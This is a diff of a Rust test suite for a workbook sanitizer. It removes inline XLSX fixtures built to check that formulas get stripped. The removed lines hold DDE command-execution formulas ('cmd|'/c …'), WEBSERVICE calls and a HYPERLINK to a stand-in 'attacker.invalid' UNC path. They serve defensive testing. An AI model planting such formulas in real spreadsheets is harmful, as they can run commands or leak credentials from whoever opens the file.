@@ -553,27 +553,6 @@ fn quarantines_a_field_left_open_inside_an_alternate_content_branch() {
 // Issue #20, class 4: formulas wherever a workbook keeps them.
 // ---------------------------------------------------------------------------------------------
 
-const S: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
-const WORKSHEET: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";
-
-/// A one-sheet workbook with the given defined names and worksheet body.
-fn xlsx_of(names: &str, sheet_body: &str) -> Vec<u8> {
-    let workbook = format!("<workbook xmlns=\"{S}\" xmlns:r=\"{R_OFFICE}\"><sheets><sheet name=\"データ\" sheetId=\"1\" r:id=\"rId1\"/></sheets>{names}</workbook>");
-    let sheet = format!("<worksheet xmlns=\"{S}\" xmlns:r=\"{R_OFFICE}\" xmlns:x14=\"http://schemas.microsoft.com/office/spreadsheetml/2009/9/main\" xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\">{sheet_body}</worksheet>");
-    Ooxml::default()
-        .part("xl/workbook.xml", XLSX_MAIN, workbook)
-        .part("xl/worksheets/sheet1.xml", WORKSHEET, sheet)
-        .rel("", "rId1", "officeDocument", "xl/workbook.xml", false)
-        .rel(
-            "xl/workbook.xml",
-            "rId1",
-            "worksheet",
-            "worksheets/sheet1.xml",
-            false,
-        )
-        .build()
-}
-
 /// Sanitizes a workbook and checks no part of the output holds the marker, and that a second
 /// pass removes nothing.
 fn assert_formulas_gone(name: &str, input: &[u8]) -> mukaika_sanitizers::Outcome {
@@ -592,10 +571,7 @@ fn assert_formulas_gone(name: &str, input: &[u8]) -> mukaika_sanitizers::Outcome
 #[test]
 fn removes_a_dde_call_behind_a_double_quote_in_a_quoted_sheet_name() {
     // The `"` inside the quoted sheet name once opened a "string" that swallowed the `|`.
-    let sheet = format!(
-        "<sheetData><row r=\"1\"><c r=\"A1\"><f>'a\"b'!A1&amp;cmd|'/c {MARK}'!A0</f><v>7</v></c><c r=\"B1\"><f>'it''s \"x'!A1&amp;\"\"\"\"&amp;cmd|'/c {MARK}'!A0</f><v>8</v></c><c r=\"C1\"><f>'a\"b'!A1&amp;\"x|y\"</f><v>9</v></c></row></sheetData>"
-    );
-    let outcome = assert_formulas_gone("引用.xlsx", &xlsx_of("", &sheet));
+    let outcome = assert_formulas_gone("引用.xlsx", &xlsx_with_quoted_sheet_dde());
     assert!(
         removed(&outcome, What::Field, "cell A1"),
         "{:#?}",
@@ -619,35 +595,7 @@ fn removes_a_dde_call_behind_a_double_quote_in_a_quoted_sheet_name() {
 
 #[test]
 fn removes_outside_formulas_from_cells_validation_conditional_formats_extensions_and_names() {
-    let names = format!(
-        "<definedNames>\
-         <definedName name=\"外部\">[1]Sheet1!$A$1+LEN(\"{MARK}-n1\")</definedName>\
-         <definedName name=\"実行\">cmd|'/c {MARK}-n2'!A0</definedName>\
-         <definedName name=\"ウェブ\">_xlfn.WEBSERVICE(\"http://{MARK}-n3.invalid/\")</definedName>\
-         <definedName name=\"他ファイル\">'file:///C:/{MARK}-n4.ods'#$Sheet1.A1</definedName>\
-         <definedName name=\"集計範囲\">'データ'!$A$1:$A$3</definedName>\
-         </definedNames>"
-    );
-    let sheet = format!(
-        "<sheetData>\
-         <row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>売上（架空）</t></is></c><c r=\"B1\"><v>100</v></c>\
-         <c r=\"D1\" t=\"str\"><f>HYPERLINK(\"file:///C:/{MARK}-c1/x.exe\",\"開く\")</f><v>開く</v></c>\
-         <c r=\"E1\" t=\"str\"><f>_xlfn.WEBSERVICE(\"http://{MARK}-c2.invalid/\")</f><v>応答</v></c>\
-         <c r=\"F1\"><f>SUM(B1:B1)</f><v>100</v></c></row>\
-         <row r=\"2\"><c r=\"A2\"><f t=\"shared\" ref=\"A2:A3\" si=\"0\">'[1]{MARK}-c3'!A1</f><v>1</v></c><c r=\"B2\"><f t=\"shared\" ref=\"B2:B3\" si=\"1\">B1*2</f><v>200</v></c></row>\
-         <row r=\"3\"><c r=\"A3\"><f t=\"shared\" si=\"0\"/><v>2</v></c><c r=\"B3\"><f t=\"shared\" si=\"1\"/><v>400</v></c></row>\
-         </sheetData>\
-         <conditionalFormatting sqref=\"B1\"><cfRule type=\"expression\" priority=\"1\"><formula>_xlfn._xlws.FILTERXML(\"&lt;a&gt;{MARK}-f1&lt;/a&gt;\",\"//a\")=\"x\"</formula></cfRule></conditionalFormatting>\
-         <conditionalFormatting sqref=\"B2\"><cfRule type=\"colorScale\" priority=\"2\"><colorScale><cfvo type=\"formula\" val=\"[1]{MARK}!A1\"/><cfvo type=\"max\"/><color rgb=\"FFFF0000\"/><color rgb=\"FF00FF00\"/></colorScale></cfRule></conditionalFormatting>\
-         <conditionalFormatting sqref=\"F1\"><cfRule type=\"expression\" priority=\"3\"><formula>F1&gt;10</formula></cfRule></conditionalFormatting>\
-         <dataValidations count=\"2\"><dataValidation type=\"list\" allowBlank=\"1\" sqref=\"G1\"><formula1>'[1]{MARK}-v1'!$A$1:$A$3</formula1></dataValidation><dataValidation type=\"list\" sqref=\"G2\"><formula1>\"はい,いいえ\"</formula1></dataValidation></dataValidations>\
-         <extLst>\
-         <ext uri=\"{{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}}\"><x14:dataValidations count=\"1\"><x14:dataValidation type=\"list\"><x14:formula1><xm:f>cmd|'/c {MARK}-x1'!A0</xm:f></x14:formula1><xm:sqref>H1</xm:sqref></x14:dataValidation></x14:dataValidations></ext>\
-         <ext uri=\"{{78C0D931-6437-407d-A8EE-F0AAD7539E65}}\"><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type=\"expression\" priority=\"4\" id=\"{{00000000-0000-0000-0000-000000000001}}\"><xm:f>HYPERLINK(\"\\\\attacker.invalid\\{MARK}-x2\")</xm:f></x14:cfRule><xm:sqref>H2</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext>\
-         <ext uri=\"{{05C60535-1F16-4fd2-B633-F4F36F0B64E0}}\"><x14:sparklineGroups><x14:sparklineGroup><x14:colorSeries rgb=\"FF376092\"/><x14:sparklines><x14:sparkline><xm:f>'[1]{MARK}-s1'!A1:A3</xm:f><xm:sqref>J1</xm:sqref></x14:sparkline></x14:sparklines></x14:sparklineGroup></x14:sparklineGroups></ext>\
-         </extLst>"
-    );
-    let outcome = assert_formulas_gone("集計.xlsx", &xlsx_of(&names, &sheet));
+    let outcome = assert_formulas_gone("集計.xlsx", &xlsx_with_outside_formulas());
     for (what, needle) in [
         (What::ExternalReference, "name 外部"),
         (What::Field, "name 実行"),
